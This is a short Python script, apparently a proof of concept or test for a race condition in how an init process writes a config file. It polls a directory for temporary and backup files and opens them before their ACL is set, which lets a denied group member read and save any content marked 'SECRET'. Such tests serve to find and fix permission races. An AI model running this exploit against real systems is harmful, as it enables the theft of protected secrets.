# runs as a member of the config's owning group (which the config's ACL gives nothing):
# polls the directory for init's temp file and opens it while its mode's group bits are
# the ACL mask, before the ACL is set; keeps what it read.
import os, sys, time
d, out, secs = sys.argv[1], sys.argv[2], float(sys.argv[3])
got = 0
names_got = set()
end = time.time() + secs
while time.time() < end:
    try:
        names = os.listdir(d)
    except OSError:
        continue
    for n in names:
        if ".tmp-" in n or ".bak-" in n:
            try:
                fd = os.open(os.path.join(d, n), os.O_RDONLY)
            except OSError:
                continue
            data = os.read(fd, 4096)
            os.close(fd)
            if b"SECRET" in data:
                got += 1
                names_got.add(n)
                if got == 1:
                    open(out, "wb").write(data)
print("opened with the secret:", got, "times, in", len(names_got), "distinct temp files")
